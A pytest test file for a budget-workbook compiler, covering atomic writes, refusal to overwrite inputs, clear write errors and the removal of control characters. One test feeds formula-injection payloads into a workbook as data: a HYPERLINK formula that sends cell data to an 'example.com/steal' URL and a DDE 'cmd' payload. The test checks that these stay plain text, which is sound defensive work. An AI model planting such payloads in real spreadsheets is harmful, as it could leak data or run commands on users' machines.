"""Writing (issue #6, item 5): atomic outputs, never over an input, clear errors,
text that stays text, no control characters, output folders created."""

from __future__ import annotations

import errno
import os
import re
import signal
import subprocess
import sys
import zipfile
from pathlib import Path

import openpyxl
import pytest

from tests.workbooks import BASE, PROJECT, PROJECTS, UNIT, UNITS
from tests.workbooks_hostile import write_xlsx, xlsx
from xlbudget import outputs
from xlbudget.outputs import OutputError, atomic_write
from xlbudget.pipeline import Outcome, compile_workbook

OLD = b"the previous, complete output"


def compile_to(tmp_path: Path, out: Path, source: Path | None = None) -> Outcome:
    return compile_workbook([source or xlsx(tmp_path / "填报.xlsx", BASE)], out)


def leftovers(folder: Path) -> list[str]:
    return sorted(p.name for p in folder.iterdir() if ".tmp" in p.name)


# -- atomic ------------------------------------------------------------------------------------
def test_a_failed_write_leaves_the_old_file_and_no_temporary_file(tmp_path: Path) -> None:
    target = tmp_path / "公开表.xlsx"
    target.write_bytes(OLD)

    def half_then_fail(tmp: Path) -> None:
        tmp.write_bytes(b"half a workbook")
        raise KeyboardInterrupt

    with pytest.raises(KeyboardInterrupt):
        atomic_write(target, half_then_fail)
    assert target.read_bytes() == OLD and leftovers(tmp_path) == []


KILLED_WRITER = """
import sys, time
from pathlib import Path
from xlbudget.outputs import atomic_write

def slow(tmp):
    with tmp.open("wb") as handle:
        handle.write(b"x" * 1_000_000)
        handle.flush()
        print("writing", flush=True)
        time.sleep(60)

atomic_write(Path(sys.argv[1]), slow)
"""


@pytest.mark.skipif(not hasattr(signal, "SIGKILL"), reason="POSIX only")
def test_a_process_killed_while_writing_leaves_the_old_file(tmp_path: Path) -> None:
    target = tmp_path / "公开表.xlsx"
    target.write_bytes(OLD)
    writer = subprocess.Popen([sys.executable, "-c", KILLED_WRITER, str(target)], stdout=subprocess.PIPE, text=True)
    assert writer.stdout is not None and writer.stdout.readline().strip() == "writing"
    writer.send_signal(signal.SIGKILL)
    writer.wait(timeout=30)
    assert target.read_bytes() == OLD


# -- never over an input -----------------------------------------------------------------------
def test_an_output_naming_an_input_is_refused_however_it_is_spelled(tmp_path: Path) -> None:
    source = xlsx(tmp_path / "填报.xlsx", BASE)
    before = source.read_bytes()
    (tmp_path / "子目录").mkdir()
    (tmp_path / "链接.xlsx").symlink_to(source)
    os.link(source, tmp_path / "硬链接.xlsx")
    for out in (source, tmp_path / "子目录" / ".." / "填报.xlsx", tmp_path / "链接.xlsx", tmp_path / "硬链接.xlsx"):
        outcome = compile_workbook([source], out)
        assert outcome.exit_code == 2 and outcome.outputs == [], out
        assert "拒绝覆盖输入" in outcome.findings[0].message
    assert source.read_bytes() == before


# -- outputs that cannot be written ----------------------------------------------------------------
def test_an_output_under_a_file_or_over_a_folder_is_a_clear_error(tmp_path: Path) -> None:
    (tmp_path / "文件").write_text("x")
    (tmp_path / "公开表.xlsx").mkdir()
    cases = {tmp_path / "文件" / "公开表.xlsx": "路径中有一级不是文件夹", tmp_path / "公开表.xlsx": "同名的文件夹已存在"}
    for out, reason in cases.items():
        outcome = compile_to(tmp_path, out)
        assert (outcome.exit_code, outcome.findings[0].code) == (2, "XB002")
        assert reason in outcome.findings[0].message, outcome.findings[0].message
    assert leftovers(tmp_path) == []


@pytest.mark.skipif(os.name != "posix" or os.geteuid() == 0, reason="root writes anywhere")
def test_a_read_only_folder_is_a_clear_error(tmp_path: Path) -> None:
    folder = tmp_path / "只读"
    folder.mkdir()
    folder.chmod(0o500)
    try:
        outcome = compile_to(tmp_path, folder / "公开表.xlsx")
    finally:
        folder.chmod(0o700)
    assert outcome.exit_code == 2 and "没有写入权限" in outcome.findings[0].message


@pytest.mark.parametrize(("where", "error", "reason"), [
    ("replace", PermissionError(errno.EACCES, "Permission denied"), "正被其他程序（如 Excel、WPS）打开"),
    ("fsync", OSError(errno.ENOSPC, "No space left on device"), "磁盘空间不足"),
])
def test_a_locked_output_or_a_full_disk_is_a_clear_error(tmp_path: Path, monkeypatch: pytest.MonkeyPatch,
                                                       where: str, error: OSError, reason: str) -> None:
    """A file open in Excel cannot be replaced on Windows; a full disk fails the flush."""
    source = xlsx(tmp_path / "填报.xlsx", BASE)
    out = tmp_path / "公开表.xlsx"
    out.write_bytes(OLD)

    def fail(*args: object) -> None:
        raise error

    monkeypatch.setattr(outputs.os, where, fail)
    outcome = compile_workbook([source], out)
    assert outcome.exit_code == 2 and reason in outcome.findings[0].message, outcome.findings
    assert out.read_bytes() == OLD and leftovers(tmp_path) == []


def test_output_folders_are_created(tmp_path: Path) -> None:
    out = tmp_path / "甲" / "乙" / "丙" / "公开表.xlsx"
    outcome = compile_to(tmp_path, out)
    assert outcome.exit_code == 0 and outcome.outputs and all(p.is_file() for p in outcome.outputs)


# -- text stays text ---------------------------------------------------------------------------
HYPERLINK = '=HYPERLINK("http://example.com/steal?x="&A1,"点我")'
LOOKS_LIKE_FORMULAS = (HYPERLINK, "+86-371", "-1+2", "@SUM(A1:A9)", "=cmd|' /C calc'!A0")


def test_text_that_looks_like_a_formula_stays_text_in_every_output(tmp_path: Path) -> None:
    source = write_xlsx(tmp_path / "注入.xlsx", {
        **BASE,
        "单位": [UNITS, [UNIT, "@SUM(A1:A9)", "行政单位"]],
        "项目": [PROJECTS, [PROJECT, HYPERLINK, "其他运转类", UNIT]],
        "基本信息": [["项目", "内容"], ["预算年度", "2022"], ["部门编码", "001"], ["部门名称", "+86-371"],
                 ["金额单位", "万元"]],
        "说明事项": [["项目", "内容"], ["主要职能", "=cmd|' /C calc'!A0"], ["收入变动原因", "-1+2"]],
    })
    outcome = compile_workbook([source], tmp_path / "out" / "公开表.xlsx")
    assert outcome.exit_code == 0, outcome.findings
    texts: list[str] = []
    for path in outcome.outputs:
        if path.suffix == ".xlsx":
            _assert_no_formulas_or_external_links(path)
            texts += [c.value for ws in openpyxl.load_workbook(path) for row in ws.iter_rows() for c in row
                      if isinstance(c.value, str)]
        elif path.suffix == ".docx":
            with zipfile.ZipFile(path) as archive:
                document = archive.read("word/document.xml").decode()
                rels = "".join(archive.read(n).decode() for n in archive.namelist() if n.endswith(".rels"))
            assert not re.search(r"instrText|fldSimple|<w:hyperlink", document)
            assert 'TargetMode="External"' not in rels
    assert {HYPERLINK, "@SUM(A1:A9)"} <= set(texts)


def _assert_no_formulas_or_external_links(path: Path) -> None:
    with zipfile.ZipFile(path) as archive:
        for name in archive.namelist():
            content = archive.read(name).decode("utf-8", "replace")
            if name.startswith("xl/worksheets/sheet"):
                assert not re.search(r"<f[ >]", content), name
            assert 'TargetMode="External"' not in content, name


def test_control_characters_are_removed(tmp_path: Path) -> None:
    source = write_xlsx(tmp_path / "控制字符.xlsx", {
        **BASE,
        "单位": [UNITS, [UNIT, "测试\x07单位\x1b\ufffe", "行政单位"]],
        "项目": [PROJECTS, [PROJECT, "会议\x00费\x08", "其他运转类", UNIT]],
    })
    outcome = compile_workbook([source], tmp_path / "out" / "公开表.xlsx")
    assert outcome.exit_code == 0 and len(outcome.outputs) == 3, outcome.findings
    for path in outcome.outputs:
        data = path.read_bytes()
        if path.suffix == ".md":
            text = data.decode()
        else:
            with zipfile.ZipFile(path) as archive:
                text = "".join(archive.read(n).decode("utf-8", "replace") for n in archive.namelist()
                               if n.endswith(".xml"))
        assert not re.search(r"[\x00-\x08\x0b\x0c\x0e-\x1f\ufffe]|_x00[01][0-9A-F]_", text), path.name
    workbook = openpyxl.load_workbook(outcome.outputs[0])
    cells = {c.value for ws in workbook for row in ws.iter_rows() for c in row}
    assert "会议费" in cells


def test_atomic_write_turns_os_errors_into_output_errors(tmp_path: Path) -> None:
    (tmp_path / "文件").write_text("x")
    with pytest.raises(OutputError, match="路径中有一级不是文件夹"):
        atomic_write(tmp_path / "文件" / "a.xlsx", lambda tmp: tmp.write_bytes(b""))
